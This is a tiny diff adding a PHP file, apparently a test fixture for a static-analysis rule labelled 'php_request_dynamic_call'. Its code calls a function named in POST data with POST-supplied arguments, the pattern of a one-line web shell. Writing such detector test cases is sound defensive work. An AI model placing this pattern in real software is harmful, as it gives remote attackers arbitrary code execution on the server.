@@ -1,0 +1,4 @@
+<?php
+// want: php_request_dynamic_call
+$a = $_POST;
+$a['f']($a['x']);
